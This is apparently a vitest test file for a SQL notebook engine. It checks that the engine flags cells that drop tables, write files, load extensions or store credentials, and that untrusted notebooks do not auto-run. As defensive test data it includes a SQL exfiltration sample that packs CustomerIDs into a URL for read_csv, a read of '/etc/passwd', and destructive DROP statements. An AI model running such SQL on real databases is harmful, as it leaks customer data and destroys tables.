import { describe, expect, it } from 'vitest';
import { parseNotebook, runsOnOpen, sqlEffects, summarizeNotebookEffects } from '../../../src/engine/index.ts';

const effects = (sql: string, name = 'cell') => sqlEffects('c1', name, sql);
const reasons = (sql: string): string[] => effects(sql).flagged.map((flag) => flag.reason);

describe('sqlEffects: what a SQL cell would do', () => {
  it('a plain query reads its tables, keeps its result under the cell name and is not flagged', () => {
    expect(effects('SELECT * FROM sales', 'everything')).toEqual({
      cellId: 'c1',
      cellName: 'everything',
      reads: ['sales'],
      writes: [],
      result: 'everything',
      flagged: [],
    });
  });

  it('DROP TABLE IF EXISTS … CASCADE drops the table and is flagged', () => {
    const drop = effects('DROP TABLE IF EXISTS sales CASCADE');
    expect(drop.reads).toEqual([]);
    expect(drop.writes).toEqual([{ action: 'drops', object: 'table', name: 'sales' }]);
    expect(drop.result).toBeUndefined();
    expect(drop.flagged).toEqual([{ statement: 'DROP TABLE IF EXISTS sales CASCADE', reason: 'drops table sales' }]);
  });

  it('a DROP of several names lists each', () => {
    expect(effects('drop view if exists a, main.b').writes).toEqual([
      { action: 'drops', object: 'view', name: 'a' },
      { action: 'drops', object: 'view', name: 'main.b' },
    ]);
  });

  it('SET VARIABLE then read_csv(getvariable(…)) is flagged twice and still reads what the subquery reads', () => {
    const sql = `SET VARIABLE leak = 'http://127.0.0.1:4311/x?ids=' || (SELECT string_agg(CustomerID, '-') FROM sales);\nSELECT * FROM read_csv(getvariable('leak'))`;
    const leak = effects(sql);
    expect(leak.reads).toEqual(['sales']);
    expect(leak.writes).toEqual([]);
    expect(leak.result).toBeUndefined();
    expect(leak.flagged.map((flag) => flag.reason)).toEqual(['changes a setting or a variable', 'reads a file or URL (read_csv)']);
    expect(leak.flagged[1]?.statement).toBe("SELECT * FROM read_csv(getvariable('leak'))");
  });

  it('CREATE TABLE … AS creates the table, reads its query, and is not flagged', () => {
    expect(effects('CREATE TABLE by_country AS SELECT country, sum(amount) AS revenue FROM sales_clean GROUP BY 1')).toEqual({
      cellId: 'c1',
      cellName: 'cell',
      reads: ['sales_clean'],
      writes: [{ action: 'creates', object: 'table', name: 'by_country' }],
      flagged: [],
    });
  });

  it('CREATE OR REPLACE is flagged: it replaces what may be the user’s table', () => {
    const replace = effects('CREATE OR REPLACE TEMP VIEW sales AS SELECT 1 AS x');
    expect(replace.writes).toEqual([{ action: 'replaces', object: 'view', name: 'sales' }]);
    expect(replace.flagged.map((flag) => flag.reason)).toEqual(['replaces view sales if it exists']);
  });

  it('a table the cell creates is not listed as read by its later statements', () => {
    const own = effects('CREATE TEMP TABLE t AS SELECT * FROM sales; SELECT count(*) FROM T');
    expect(own.reads).toEqual(['sales']);
    expect(own.writes).toEqual([{ action: 'creates', object: 'table', name: 't' }]);
  });

  it('INSERT, UPDATE, DELETE (after a WITH), MERGE and TRUNCATE change a table and are flagged', () => {
    expect(effects('INSERT INTO log SELECT * FROM sales').writes).toEqual([{ action: 'inserts into', object: 'table', name: 'log' }]);
    expect(effects('INSERT INTO log SELECT * FROM sales').reads).toEqual(['sales']);
    expect(reasons("UPDATE sales SET amount = 0 WHERE country = 'France'")).toEqual(['updates table sales']);
    const deletion = effects('WITH gone AS (SELECT customer_id FROM churned) DELETE FROM sales WHERE customer_id IN (SELECT customer_id FROM gone)');
    expect(deletion.reads).toEqual(['churned']);
    expect(deletion.flagged.map((flag) => flag.reason)).toEqual(['deletes from table sales']);
    expect(reasons('MERGE INTO stock USING delivery ON stock.id = delivery.id WHEN MATCHED THEN UPDATE SET n = 1')).toEqual(['merges into table stock']);
    expect(reasons('TRUNCATE sales')).toEqual(['empties table sales']);
  });

  it('ALTER, COPY, ATTACH, SET, INSTALL/LOAD, PRAGMA and CREATE SECRET are flagged with what they do', () => {
    expect(reasons('ALTER TABLE sales RENAME TO old_sales')).toEqual(['alters table sales']);
    expect(reasons("COPY sales TO 'out.csv'")).toEqual(["writes the file or URL 'out.csv'"]);
    expect(effects("COPY sales TO 'out.csv'").reads).toEqual(['sales']);
    expect(reasons("COPY staging FROM 'in.csv'")).toEqual(['copies into table staging', "reads the file or URL 'in.csv'"]);
    expect(reasons("ATTACH 'http://example.invalid/x.db' AS remote")).toEqual(['opens another database']);
    expect(reasons('SET enable_external_access = true')).toEqual(['changes a setting or a variable']);
    expect(reasons('INSTALL httpfs; LOAD httpfs')).toEqual(['installs an extension', 'loads an extension']);
    expect(reasons("PRAGMA table_info('sales')")).toEqual(['runs a pragma']);
    expect(reasons("CREATE SECRET s (TYPE s3, KEY_ID 'k')")).toEqual(['stores credentials for remote storage']);
  });

  it('COMMENT ON names the table or view it changes, as the data guard reads it', () => {
    expect(effects("COMMENT ON TABLE sales IS 'mine'").writes).toEqual([{ action: 'comments on', object: 'table', name: 'sales' }]);
    expect(reasons("COMMENT ON COLUMN main.sales.amount IS 'net'")).toEqual(['comments on table main.sales']);
    expect(reasons("COMMENT ON VIEW monthly IS 'x'")).toEqual(['comments on view monthly']);
  });

  it('objects that hold no rows are named too: macros, sequences, schemas, databases', () => {
    expect(effects('CREATE OR REPLACE TEMP MACRO twice(x) AS x * 2').writes).toEqual([{ action: 'replaces', object: 'macro', name: 'twice' }]);
    expect(effects('CREATE SEQUENCE IF NOT EXISTS ids START 1').writes).toEqual([{ action: 'creates', object: 'sequence', name: 'ids' }]);
    expect(reasons('DROP MACRO TABLE top_n')).toEqual(['drops macro top_n']);
    expect(reasons('DROP SCHEMA IF EXISTS scratch CASCADE')).toEqual(['drops schema scratch']);
    expect(reasons('DROP SCHEMA main')).toEqual(['drops schema main']);
    expect(reasons('DROP DATABASE other')).toEqual(['drops database other']);
  });

  it('a file or URL named as a table, or read by a table function, is flagged even in a plain query', () => {
    expect(reasons("SELECT * FROM 'http://example.invalid/x.csv'")).toEqual(["reads the file or URL 'http://example.invalid/x.csv'"]);
    expect(reasons("SELECT * FROM sales JOIN read_parquet('x.parquet') USING (id)")).toEqual(['reads a file or URL (read_parquet)']);
    expect(reasons("SELECT content FROM read_text('/etc/passwd')")).toEqual(['reads a file or URL (read_text)']);
  });

  it('words inside strings and comments are not statements', () => {
    const quiet = effects("-- DROP TABLE sales\nSELECT 'DROP TABLE sales; read_csv(x)' AS note /* DELETE FROM sales */ FROM sales");
    expect(quiet.flagged).toEqual([]);
    expect(quiet.writes).toEqual([]);
    expect(quiet.reads).toEqual(['sales']);
  });

  it('a query behind a WITH, DESCRIBE or a bracket is plain; an unknown statement is flagged', () => {
    expect(reasons('WITH a AS (SELECT * FROM sales) SELECT * FROM a')).toEqual([]);
    expect(reasons('DESCRIBE sales')).toEqual([]);
    expect(reasons('(SELECT 1) UNION ALL (SELECT 2)')).toEqual([]);
    expect(reasons('BEGIN TRANSACTION')).toEqual(['is not a plain query']);
  });

  it('a long statement is cut for display', () => {
    const sql = `SET VARIABLE v = '${'x'.repeat(300)}'`;
    const [flag] = effects(sql).flagged;
    expect(flag?.statement.length).toBe(100);
    expect(flag?.statement.endsWith('…')).toBe(true);
  });
});

describe('summarizeNotebookEffects', () => {
  const text = [
    '---',
    'aisle: 1',
    'title: Shared',
    'data:',
    '  orders: data/orders.csv',
    '---',
    '',
    'Some prose with DROP TABLE sales in it.',
    '',
    '```input top_n',
    '{ "input": "slider", "min": 1, "max": 50, "value": 10 }',
    '```',
    '',
    '```sql top',
    'SELECT * FROM orders ORDER BY amount DESC LIMIT $top_n',
    '```',
    '',
    '```sql cleanup',
    'DROP TABLE IF EXISTS sales CASCADE;',
    'CREATE TABLE summary AS SELECT count(*) AS n FROM top',
    '```',
    '',
  ].join('\n');

  it('lists every SQL cell in order, the data the front matter names, and counts the flagged statements', () => {
    const summary = summarizeNotebookEffects(parseNotebook(text));
    expect(summary.data).toEqual([{ name: 'orders', path: 'data/orders.csv' }]);
    expect(summary.cells.map((cell) => [cell.cellName, cell.reads, cell.writes.map((w) => `${w.action} ${w.name}`), cell.result ?? null])).toEqual([
      ['top', ['orders'], [], 'top'],
      ['cleanup', ['top'], ['drops sales', 'creates summary'], null],
    ]);
    expect(summary.flaggedCount).toBe(1);
  });

  it('a notebook without SQL does nothing to flag', () => {
    expect(summarizeNotebookEffects({ title: 'x', data: {}, cells: [{ id: 'm', kind: 'markdown', source: '# hi' }], extra: {} })).toEqual({
      cells: [],
      data: [],
      flaggedCount: 0,
    });
  });
});

describe('runsOnOpen', () => {
  it('bundled demos and the user’s trusted notebooks run; outside text and untrusted saves do not', () => {
    expect(runsOnOpen({ kind: 'bundled' })).toBe(true);
    expect(runsOnOpen({ kind: 'workspace', trusted: true })).toBe(true);
    expect(runsOnOpen({ kind: 'workspace', trusted: false })).toBe(false);
    expect(runsOnOpen({ kind: 'outside' })).toBe(false);
  });
});
